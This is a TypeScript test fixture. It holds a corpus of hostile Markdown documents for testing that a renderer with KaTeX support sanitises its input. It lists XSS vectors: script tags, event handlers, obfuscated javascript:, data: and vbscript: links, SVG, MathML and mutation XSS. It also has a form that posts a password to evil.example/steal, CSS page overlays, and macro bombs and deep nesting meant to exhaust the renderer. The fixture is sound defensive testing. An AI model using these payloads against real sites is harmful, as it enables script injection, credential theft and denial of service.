/**
 * Documents that try to run script, load foreign resources, restyle the page or exhaust the
 * renderer. Used by the unit tests (on the HTML) and the browser test (in Chromium). Every
 * payload that would run calls `pwn()` or sets `window.__pwned`, which the browser test watches.
 */
export interface HostileDocument {
  name: string;
  markdown: string;
}

const repeat = (text: string, times: number) => text.repeat(times);

export const hostileCorpus: HostileDocument[] = [
  {
    name: "script tags",
    markdown: "<script>window.__pwned = 1</script>\n\n<SCRIPT SRC=//evil.example/x.js></SCRIPT>\n\ntext <script>pwn()</script> more",
  },
  {
    name: "event handlers",
    markdown:
      '<img src=x onerror="window.__pwned=1">\n\n<p onclick="pwn()" onmouseover="pwn()">hover</p>\n\n<a href="/x" onfocus="pwn()" autofocus>focus</a>\n\n<details open ontoggle="pwn()"><summary>x</summary></details>\n\n<body onload=pwn()>',
  },
  {
    name: "javascript links",
    markdown:
      '[a](javascript:pwn()) [b](JaVaScRiPt:pwn()) [c](  javascript:pwn()) <a href="javascript:pwn()">d</a> <a href="java&#x09;script:pwn()">e</a> <a href="&#106;avascript:pwn()">f</a> <a href="jav&#x0A;ascript:pwn()">g</a> [h](java%0ascript:pwn()) [i](<javascript:pwn()>)',
  },
  {
    name: "reference links",
    markdown: "[one][x] [two][y] [three][z]\n\n[x]: javascript:pwn()\n[y]: &#106;avascript:pwn()\n[z]: <vbscript:msgbox(1)>",
  },
  {
    name: "data and vbscript urls",
    markdown:
      '[a](data:text/html;base64,PHNjcmlwdD5wd24oKTwvc2NyaXB0Pg==) [b](vbscript:msgbox(1)) <a href="data:text/html,<script>pwn()</script>">c</a> ![d](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9cHduKCk+) <img src="javascript:pwn()">',
  },
  {
    name: "foreign images",
    markdown:
      '![tracker](https://evil.example/pixel.png) ![rel](../attach/../x.png) ![att](/attach/abc/../../etc) <img src="//evil.example/x.png" srcset="https://evil.example/y.png 2x"> <picture><source srcset="https://evil.example/z.png"><img src="/attach/ok1"></picture>',
  },
  { name: "autolinks", markdown: "<javascript:pwn()> <data:text/html,x> www.example.com https://example.com/path?q=1" },
  {
    name: "raw svg",
    markdown:
      '<svg onload="pwn()"><script>pwn()</script><a xlink:href="javascript:pwn()"><text>x</text></a><animate attributeName="href" to="javascript:pwn()"/><foreignObject><iframe src="javascript:pwn()"></iframe></foreignObject></svg>\n\n<svg><style>*{display:none}</style></svg>',
  },
  {
    name: "raw mathml",
    markdown:
      '<math><maction actiontype="statusline" xlink:href="javascript:pwn()">x</maction><mtext><script>pwn()</script></mtext><mi href="javascript:pwn()">y</mi></math>\n\n<math><mtext><table><mglyph><style><img src=x onerror=pwn()>',
  },
  {
    name: "frames and objects",
    markdown:
      '<iframe src="javascript:pwn()"></iframe><iframe srcdoc="<script>parent.pwn()</script>"></iframe><object data="javascript:pwn()"></object><embed src="javascript:pwn()"><frameset onload=pwn()>',
  },
  {
    name: "forms",
    markdown:
      '<form action="https://evil.example/steal"><input name="password" type="password"><button formaction="javascript:pwn()">Go</button></form><input type="image" src="x" onerror="pwn()"><textarea><img src=x onerror=pwn()></textarea>',
  },
  {
    name: "styles",
    markdown:
      '<style>body{background:url(javascript:pwn())} .site{display:none}</style>\n\n<div style="position:fixed;inset:0;background:url(https://evil.example/x)">cover</div>\n\n<span class="katex" style="color:red">fake katex</span> <span class="shiki" style="--shiki-light:#f00">fake shiki</span>\n\n<link rel=stylesheet href=https://evil.example/x.css><meta http-equiv="refresh" content="0;url=javascript:pwn()"><base href="https://evil.example/">',
  },
  {
    name: "dom clobbering",
    markdown:
      '<a id="__pwned" name="__pwned" href="#">x</a><img name="cookie" src="/attach/abc"><form id="site"></form><div id="content">y</div>',
  },
  {
    name: "targets and rel",
    markdown: '<a href="https://example.com" target="_blank" rel="opener">x</a> <a href="https://example.com" target="_top">y</a>',
  },
  {
    name: "html comments and cdata",
    markdown:
      "<!-- <script>pwn()</script> -->\n\n<![CDATA[<script>pwn()</script>]]>\n\n<!--><script>pwn()</script>-->\n\n<?xml ?><script>pwn()</script>",
  },
  {
    name: "mutation xss",
    markdown:
      '<noscript><p title="</noscript><img src=x onerror=pwn()>"></noscript>\n\n<math><mi><table><mi><style><img src=x onerror=pwn()></style>\n\n<svg></p><style><a id="</style><img src=1 onerror=pwn()>">',
  },
  {
    name: "katex href and url",
    markdown:
      "$\\href{javascript:pwn()}{click}$ $\\url{javascript:pwn()}$ $$\\href{https://evil.example}{x}$$ $\\includegraphics{https://evil.example/x.png}$",
  },
  {
    name: "katex html commands",
    markdown:
      "$\\htmlClass{site}{x}$ $\\htmlId{__pwned}{x}$ $\\htmlStyle{position:fixed;inset:0;background:red}{x}$ $\\htmlData{foo=bar}{x}$ $\\href{#x}{\\htmlStyle{color:red}{y}}$",
  },
  {
    name: "katex macro bombs",
    markdown:
      "$\\def\\a{\\a\\a}\\a$ $\\def\\x{xxxxxxxxxx}\\def\\y{\\x\\x\\x\\x\\x\\x\\x\\x\\x\\x}\\def\\z{\\y\\y\\y\\y\\y\\y\\y\\y\\y\\y}\\z\\z\\z\\z\\z\\z\\z\\z\\z\\z$ $\\gdef\\b{\\b}\\b$ $\\newcommand{\\c}{\\c\\c}\\c$ $$\\def\\d#1{#1#1}\\d{\\d{\\d{\\d{\\d{\\d{\\d{\\d{\\d{\\d{\\d{\\d{x}}}}}}}}}}}}$$",
  },
  {
    name: "katex sizes and colours",
    markdown:
      "$\\rule{100000em}{100000em}$ $\\kern99999em x$ $\\color{expression(pwn())}{x}$ $\\textcolor{url(javascript:pwn())}{x}$ $\\colorbox{red;position:fixed}{x}$ $\\Huge\\Huge x$",
  },
  {
    name: "deep formula",
    markdown: "$" + repeat("{", 5_000) + "x" + repeat("}", 5_000) + "$ and $" + repeat("\\sqrt{", 2_000) + "x" + repeat("}", 2_000) + "$",
  },
  { name: "deeply nested quotes", markdown: repeat(">", 10_000) + " deep" },
  { name: "deeply nested lists", markdown: repeat("- ", 10_000) + "deep\n\n" + repeat("1. ", 5_000) + "deep" },
  {
    name: "deeply nested html",
    markdown: repeat("<div>", 10_000) + "deep" + repeat("</div>", 10_000) + "\n\n" + repeat("<blockquote>", 5_000) + "x",
  },
  {
    name: "deeply indented lists",
    markdown: Array.from({ length: 300 }, (_, level) => `${" ".repeat(level * 2)}- level ${level}`).join("\n"),
  },
  { name: "many formulas", markdown: repeat("$\\frac{a}{b}$ ", 1_000) },
  { name: "long code line", markdown: "```ts\n" + repeat("const a = `${", 3_000) + "\n```\n\n```js\n" + repeat("/*", 10_000) + "\n```" },
];

/** A document one byte over the limit would do; a whole megabyte shows that the check is cheap. */
export const megabyteDocument = repeat("# Heading\n\nSome *text* with $x^2$ and `code`.\n\n", 24_000);
